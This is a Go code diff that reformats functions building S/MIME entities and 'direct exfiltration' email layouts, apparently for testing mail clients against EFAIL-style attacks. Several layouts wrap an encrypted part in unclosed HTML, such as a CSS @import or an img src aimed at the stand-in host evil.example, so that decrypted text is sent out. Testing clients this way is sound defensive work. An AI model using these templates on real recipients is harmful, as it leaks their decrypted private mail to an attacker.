@@ -136,7 +136,8 @@ func Entity(der []byte) string {
 	for ; len(b) > 76; b = b[76:] {
 		lines.WriteString(b[:76] + "\n")
 	}
-	return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n" + lines.String() + b + "\n"
+	return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n" +
+		"Content-Transfer-Encoding: base64\n\n" + lines.String() + b + "\n"
 }
 
 // Direct are the layouts of direct exfiltration: HTML that is left open before the
@@ -158,29 +159,13 @@ func Direct(sealed string) map[string]string {
 			sealed,
 			"Content-Type: text/html\n\n</textarea><input type=submit>",
 		),
-		"style": join(
-			"mixed",
-			"Content-Type: text/html\n\n<style>@import url(http://evil.example/?",
-			sealed,
-			"Content-Type: text/html\n\n);</style>",
-		),
-		"nested": join(
-			"mixed",
-			open,
-			"Content-Type: multipart/mixed; boundary=in\n\n--in\n"+sealed+"\n--in--",
-			shut,
-		),
-		"forwarded": join(
-			"mixed",
-			open,
-			"Content-Type: message/rfc822\n\nFrom: a@b.example\nSubject: x\nMIME-Version: 1.0\n"+sealed,
-			shut,
-		),
-		"referenced": join(
-			"related",
-			"Content-Type: text/html\n\n<iframe src=\"cid:x\"></iframe>",
-			"Content-ID: <x>\n"+sealed,
-		),
+		"style": join("mixed", "Content-Type: text/html\n\n<style>@import url(http://evil.example/?", sealed,
+			"Content-Type: text/html\n\n);</style>"),
+		"nested": join("mixed", open, "Content-Type: multipart/mixed; boundary=in\n\n--in\n"+sealed+"\n--in--", shut),
+		"forwarded": join("mixed", open, "Content-Type: message/rfc822\n\nFrom: a@b.example\nSubject: "+
+			"x\nMIME-Version: 1.0\n"+sealed, shut),
+		"referenced": join("related", "Content-Type: text/html\n\n<iframe src=\"cid:x\"></iframe>",
+			"Content-ID: <x>\n"+sealed),
 		"said to be plain": join("mixed", "Content-Type: text/plain\n\n<img src='http://evil.example/?", sealed, shut),
 	}
 }
